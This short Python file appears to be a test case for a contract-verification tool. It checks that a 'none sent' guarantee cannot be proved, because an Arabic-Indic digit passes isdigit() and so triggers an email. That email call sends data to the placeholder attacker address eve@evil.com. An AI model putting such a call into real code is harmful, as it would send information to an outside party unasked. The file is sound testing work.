# not proved: Arabic digits are digits
import lictor_layer
from tools.desk.trusted import contracts as c
from tools.desk.trusted.effects import send_email


@lictor_layer.guarantee(c.none_sent())
def main() -> None:
    if "\u0663".isdigit():
        send_email("eve@evil.com", "x")
